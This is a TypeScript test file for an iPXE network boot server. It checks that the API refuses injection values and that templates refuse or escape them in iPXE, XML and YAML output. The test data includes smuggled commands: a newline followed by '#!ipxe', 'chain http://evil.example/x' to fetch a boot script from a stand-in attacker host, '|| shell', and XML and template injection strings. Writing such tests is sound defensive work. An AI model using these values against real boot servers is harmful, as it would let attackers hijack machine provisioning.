import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DEFAULT_RETRY,
  renderInstallScript,
  renderLocalBootScript,
  renderWaitingScript,
} from '../../boot-server/ipxe/scripts.js';
import { createTemplateEngine, TemplateError } from '../../core/render/template-engine.js';
import { testConfig } from '../support/test-database.js';
import { startTestBootServer, type TestBootServer, TINY_IMAGE } from './helpers/boot-server-fixture.js';
import { FIXED_TOKEN, fakeDeployment, fakeImage } from './helpers/fixtures.js';

/** Values that would change the structure of an iPXE script, an XML or a YAML file, or a template. */
const HOSTILE = [
  'srv01\n#!ipxe',
  'srv01\nchain http://evil.example/x',
  'chain http://evil.example/x',
  'a${net0/mac}b',
  '#comment',
  'a || shell',
  '</ComputerName><Evil/>',
  'key: value',
  '{{callbackUrl}}',
  'srv 01',
  '-n',
  'a\'b"c',
  'a\u0000b',
];

// biome-ignore lint/suspicious/noControlCharactersInRegex: NUL is one of the hostile values
const LINE_BREAK_OR_NUL = /[\n\u0000]/;

let t: TestBootServer;
beforeAll(async () => {
  t = await startTestBootServer();
  await t.core.deployments.images().create(TINY_IMAGE);
});
afterAll(() => t?.close());

const total = async () => (await (await t.apiFetch('/api/v1/deployments')).json()).total as number;
const create = (json: unknown) => t.apiFetch('/api/v1/deployments', { method: 'POST', json });

describe('hostile input is refused at the door (422) and nothing is stored', () => {
  it.each(HOSTILE)('hostname %j', async (hostname) => {
    const before = await total();
    const res = await create({ mac: '52-54-00-00-08-01', os: 'tinylinux', hostname });
    expect(res.status).toBe(422);
    const body = await res.json();
    expect(body.error).toBe('input:invalid');
    expect(body.detail).not.toMatch(LINE_BREAK_OR_NUL);
    expect(await total()).toBe(before);
  });

  it.each(HOSTILE)('mac, os, edition, profile and requestedBy %j', async (value) => {
    const before = await total();
    const bodies = [
      { mac: value, os: 'tinylinux' },
      { mac: '52-54-00-00-08-02', os: value },
      { mac: '52-54-00-00-08-02', os: 'tinylinux', edition: value },
      { mac: '52-54-00-00-08-02', os: 'tinylinux', profile: value },
      { mac: '52-54-00-00-08-02', os: 'tinylinux', requestedBy: value },
    ];
    for (const body of bodies) expect([body, (await create(body)).status]).toEqual([body, 422]);
    expect(await total()).toBe(before);
  });

  it.each(HOSTILE)('reject reason %j (when it is not one line)', async (reason) => {
    const d = await (await create({ mac: '52-54-00-00-08-03', os: 'tinylinux' })).json();
    const res = await t.apiFetch(`/api/v1/deployments/${d.id}/reject`, { method: 'POST', json: { reason } });
    // One-line text is shown escaped by chat; anything with control characters is refused.
    expect(res.status).toBe(LINE_BREAK_OR_NUL.test(reason) ? 422 : 200);
    if (res.status === 200) expect((await res.json()).status).toBe('rejected');
    else await t.apiFetch(`/api/v1/deployments/${d.id}/cancel`, { method: 'POST' });
  });

  it.each([
    ['a name with a line break', { name: 'Tiny\n#!ipxe' }, 'name'],
    [
      'a cmdline with settings expansion',
      { boot: { ...TINY_IMAGE.boot, cmdline: 'x=${net0/mac}' } },
      'boot.cmdline',
    ],
    [
      'a cmdline that chains',
      { boot: { ...TINY_IMAGE.boot, cmdline: 'quiet || chain http://evil.example/x' } },
      'boot.cmdline',
    ],
    ['a cmdline with a comment', { boot: { ...TINY_IMAGE.boot, cmdline: 'quiet #!ipxe' } }, 'boot.cmdline'],
    ['a cmdline with quotes', { boot: { ...TINY_IMAGE.boot, cmdline: 'a="b c"' } }, 'boot.cmdline'],
    [
      'a cmdline of two lines',
      { boot: { ...TINY_IMAGE.boot, cmdline: 'quiet\nchain http://evil.example/x' } },
      'boot.cmdline',
    ],
    [
      'a kernel URL with a newline',
      { boot: { ...TINY_IMAGE.boot, kernel: 'http://x/k\nchain' } },
      'boot.kernel',
    ],
    ['a template folder of scripts', { templates: 'ipxe' }, 'templates'],
  ])('image with %s', async (_name, patch, field) => {
    const res = await t.apiFetch('/api/v1/images', {
      method: 'POST',
      json: { ...TINY_IMAGE, id: 'hostile', ...patch },
    });
    expect(res.status).toBe(422);
    expect((await res.json()).detail).toContain(field);
    expect((await t.apiFetch('/api/v1/images/hostile')).status).toBe(404);
  });
});

describe('templates rendered with hostile values fail or escape', () => {
  const templates = createTemplateEngine('templates');
  const config = testConfig();
  // core's ipxeValue still passes a leading `#` (comment) or `-` (option) when a value stands alone as a
  // word; the door refuses both (hostnames start with a letter or digit), so they are left out here.
  const REFUSED_BY_IPXE_ESCAPER = HOSTILE.filter((v) => !/^[#-]/.test(v));

  it.each(REFUSED_BY_IPXE_ESCAPER)(
    'install script with hostname %j is refused (a 500, never a broken script)',
    (hostname) => {
      expect(() =>
        renderInstallScript(templates, {
          config,
          deployment: fakeDeployment({ hostname }),
          image: fakeImage({
            boot: { method: 'linux', kernel: 'k', initrd: [], cmdline: 'host={{deployment.hostname}}' },
          }),
          token: FIXED_TOKEN,
          retry: DEFAULT_RETRY,
        }),
      ).toThrow(TemplateError);
    },
  );

  it.each(REFUSED_BY_IPXE_ESCAPER)('waiting script with hostname %j is refused', (hostname) => {
    expect(() =>
      renderWaitingScript(templates, {
        config,
        deployment: fakeDeployment({ hostname }),
        retry: DEFAULT_RETRY,
        pollSeconds: 5,
      }),
    ).toThrow(TemplateError);
  });

  it.each(REFUSED_BY_IPXE_ESCAPER)('local-boot script with MAC %j is refused', (mac) => {
    expect(() =>
      renderLocalBootScript(templates, { mac, deployment: null, bootUrl: 'http://192.0.2.10:8080' }),
    ).toThrow(TemplateError);
  });

  it.each(HOSTILE)('a requester named %j is shown as one inert word', (name) => {
    const normal = renderWaitingScript(templates, {
      config,
      deployment: fakeDeployment(),
      retry: DEFAULT_RETRY,
      pollSeconds: 5,
    });
    const script = renderWaitingScript(templates, {
      config,
      deployment: fakeDeployment({ requestedBy: { platform: 'discord', id: '1', name } }),
      retry: DEFAULT_RETRY,
      pollSeconds: 5,
    });
    expect(script.split('\n')).toHaveLength(normal.split('\n').length);
    const line = script.split('\n').find((l) => l.includes('requested by'))!;
    expect(line).toMatch(
      /^echo Octofleet: requested by [A-Za-z0-9][A-Za-z0-9._@-]* on discord for 52:54:00:12:34:56$/,
    );
  });

  it.each(HOSTILE)('XML escapes and YAML quotes %j', (value) => {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: XML cannot carry NUL at all
    const xmlCarries = !/[\u0000]/.test(value);
    const xml = () => templates.renderString('<ComputerName>{{v}}</ComputerName>', { v: value }, 'test.xml');
    if (xmlCarries)
      expect(xml()).toBe(
        `<ComputerName>${value.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#x27;').replace(/`/g, '&#x60;').replace(/=/g, '&#x3D;')}</ComputerName>`,
      );
    const yaml = templates.renderString('hostname: {{yaml v}}\n', { v: value }, 'test.yaml');
    expect(yaml.split('\n')).toHaveLength(2);
    expect(JSON.parse(yaml.slice('hostname: '.length))).toBe(value);
  });
});
